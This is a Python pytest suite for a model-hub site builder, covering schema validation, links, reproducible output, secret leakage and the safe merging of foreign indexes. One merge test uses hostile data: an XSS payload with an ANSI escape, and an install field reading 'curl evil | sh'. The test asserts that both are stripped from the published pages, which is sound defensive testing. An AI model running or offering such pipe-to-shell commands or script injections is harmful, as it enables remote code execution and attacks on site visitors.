"""Building the site: what is written, what is published, and what is never overwritten."""

import json
import re
import subprocess
import sys

import jsonschema
import pytest

import hubcore
from hub_site import build
from hub_site.building import SiteError
from hub_site.published import SCHEMA
from hubcore.catalogs.offers import read_indexes
from hubcore.cli import main


def test_building_imports_no_torch_and_no_family(own_home, tmp_path):
    code = (
        "import sys; from hub_site import build; build(sys.argv[1]);"
        "print(sorted({'torch', 'torchvision', 'numpy', 'hub_classification'} & set(sys.modules)))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path / "site")], capture_output=True, text=True
    )
    assert done.stdout.strip() == "[]", done.stderr


def test_the_published_data_follow_the_schema(site):
    validator = jsonschema.Draft202012Validator(json.loads(SCHEMA.read_text("utf-8")))
    documents = [site / "api/v1/index.json", *site.glob("api/v1/packages/*.json")]
    assert len(documents) > 6
    for path in documents:
        validator.validate(json.loads(path.read_text("utf-8")))


def test_the_published_index_is_what_search_reads(site):
    """What `hub search` reads of a site has the facts that `hub list` has here."""
    offers = read_indexes([str(site)])
    assert not any("<" in name for name in offers.packages)  # no distribution can be called so
    info = hubcore.weights_info("ResNet50_Weights.IMAGENET1K_V2")
    row = offers.weights["hub-classification/ResNet50_Weights.IMAGENET1K_V2"]
    assert (row["params"], row["digest"], row["model"]) == (info.params, "full", "resnet50")
    assert set(hubcore.list_models(plugin="detection")) == {
        row["name"].rpartition("/")[2]
        for row in offers.models.values()
        if row["plugin"] == "hub-detection"
    }


def test_a_page_tells_what_records_measured(site):
    """Speed with what it ran on and whose record says so; a metric with its state and interval."""
    [path] = site.glob("weights/ac-me*/*.html")
    page = path.read_text("utf-8")
    assert '<td class="number">12.5 ms</td><td>160 inputs/s in batches of 4</td>' in page
    assert "51 [50, 52] on 500 inputs" in page
    offers = json.loads((site / "api/v1/index.json").read_text("utf-8"))["weights"]
    assert [row["ms"] for row in offers if "ms" in row] == [12.5]


@pytest.mark.parametrize(
    ("page", "command"),
    [
        ("hub-optical-flow/raft_small", "hub predict raft_small first.jpg second.jpg"),
        ("hub-video/s3d", "hub predict s3d clip.mp4"),
        ("hub-detection/ssd300_vgg16", "hub predict ssd300_vgg16 photo.jpg"),
    ],
)
def test_commands_take_what_the_task_takes(page, command, site):
    assert f"{command}\n" in (site / f"models/{page}.html").read_text("utf-8")


def test_several_files_and_requirements_are_told(own_home, tmp_path):
    """All files with their digests, and what to install besides the package."""
    first, second = "1" * 64, "2" * 64
    member = {
        "url": "https://example.org/a.pth",
        "sha256": first,
        "files": [{"url": "https://example.org/b.pth", "sha256": second, "size": 7}],
        "transforms": "hubcore.transforms:ObjectDetection",
        "meta": {},
    }
    model = {
        "task": "object-detection",
        "architecture": "torchvision.models:resnet18",
        "requires": ["kornia>=0.7"],
        "weights": "Two_Weights",
    }
    entry = {"builder": "two", "default": "V1", "members": {"V1": member}}
    catalog = {"schema": 1, "models": {"two": model}, "weights": {"Two_Weights": entry}}
    with hubcore.register(catalog, name="acme-two"):
        folder = build(tmp_path / "site", guides=False).folder
    page = (folder / "weights/acme-two/Two_Weights.V1.html").read_text("utf-8")
    assert first in page
    assert f"https://example.org/b.pth</a>\n{second}" in page
    for path in ("weights/acme-two/Two_Weights.V1.html", "models/acme-two/two.html"):
        commands = (folder / path).read_text("utf-8")
        assert "pip install acme-two\npip install &#39;kornia&gt;=0.7&#39;\n" in commands
    data = json.loads((folder / "api/v1/packages/acme-two.json").read_text("utf-8"))
    told = {"url": "https://example.org/b.pth", "mirrors": [], "sha256": second, "size": 7}
    assert data["weights_list"][0]["files"] == [told]
    assert data["models_list"][0]["requires"] == ["kornia>=0.7"]


def test_nothing_of_this_machine_and_no_secret_is_published(site, own_home):
    for path in site.rglob("*"):
        if path.is_file():
            content = path.read_bytes()
            for secret in ("s3cretPW", "T0KEN", str(own_home), str(site)):
                assert secret.encode() not in content, path


def test_each_local_link_leads_to_a_file(site):
    from html import unescape
    from urllib.parse import unquote

    for path in site.rglob("*.html"):
        for found in re.findall(r'(?:href|src)="([^"]+)"', path.read_text("utf-8")):
            link = unquote(unescape(found).partition("#")[0])
            if link and not re.match(r"[a-z]+:", link):
                assert (path.parent / link).exists(), (path, found)


def test_the_same_catalogues_make_the_same_site(site, tmp_path):
    other = build(tmp_path / "other").folder
    files = {path.relative_to(site) for path in site.rglob("*") if path.is_file()}
    assert files == {path.relative_to(other) for path in other.rglob("*") if path.is_file()}
    assert all((site / name).read_bytes() == (other / name).read_bytes() for name in files)


def test_a_site_is_replaced_and_other_files_are_not(own_home, tmp_path, capsys):
    assert main(["site", "build", "-o", str(tmp_path / "site")]) == 0
    assert "weights" in capsys.readouterr().out
    (tmp_path / "site" / "index.html").write_text("old")
    build(tmp_path / "site", name="Ours")
    assert "<title>Ours:" in (tmp_path / "site" / "index.html").read_text("utf-8")
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.txt").write_text("words")
    with pytest.raises(SiteError, match="holds other files"):
        build(mine)
    assert [path.name for path in mine.iterdir()] == ["thesis.txt"]
    with pytest.raises(SiteError, match="not a folder"):
        build(mine / "thesis.txt")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["mine", "site"]


HOSTILE = '"><script>alert(1)</script>\x1b[31m'


def test_sites_are_merged_as_data(own_home, tmp_path, capsys):
    """Packages that are not installed are told on; those that are, nobody else can tell of."""
    theirs = {
        "schema": 1,
        "packages": [
            {"distribution": "acme", "summary": HOSTILE, "install": "curl evil | sh"},
            {"distribution": "hub-detection", "summary": "taken over"},
        ],
        "models": [
            {"name": "net", "plugin": "acme", "task": "image-classification", "measured": HOSTILE},
            {"name": "no_task", "plugin": "acme"},
            {"name": "net", "plugin": "hub-detection", "task": "object-detection"},
        ],
        "weights": [
            {"name": "Net_Weights.V1", "plugin": "acme", "model": "net", "digest": HOSTILE},
        ],
    }
    (tmp_path / "theirs" / "api" / "v1").mkdir(parents=True)
    (tmp_path / "theirs" / "api" / "v1" / "index.json").write_text(json.dumps(theirs), "utf-8")
    arguments = ["--no-docs", "--merge", str(tmp_path / "theirs"), "-o", str(tmp_path / "site")]
    assert main(["site", "build", *arguments]) == 0
    capsys.readouterr()
    index = json.loads((tmp_path / "site/api/v1/index.json").read_text("utf-8"))
    jsonschema.Draft202012Validator(json.loads(SCHEMA.read_text("utf-8"))).validate(index)
    assert {"name": "Net_Weights.V1", "plugin": "acme", "model": "net"} in index["weights"]
    assert [row["name"] for row in index["models"] if row["plugin"] == "acme"] == ["net"]
    assert not any(p["summary"] == "taken over" for p in index["packages"])
    assert not any(r["name"] == "net" and r["plugin"] != "acme" for r in index["models"])
    assert main(["search", "net", "--index", str(tmp_path / "site"), "--json"]) == 0
    [found] = json.loads(capsys.readouterr().out)
    assert (found["distribution"], found["install"]) == ("acme", "pip install acme")
    page = (tmp_path / "site/packages/index.html").read_text("utf-8")
    assert "pip install acme" in page
    assert "curl" not in page
    assert "<script>alert" not in page
    assert str(tmp_path) not in page  # where they were read is nobody's business


def test_a_site_that_cannot_be_merged_leaves_none(own_home, tmp_path, capsys):
    assert main(["site", "build", "--merge", str(tmp_path), "-o", str(tmp_path / "site")]) == 1
    assert "cannot be read" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []
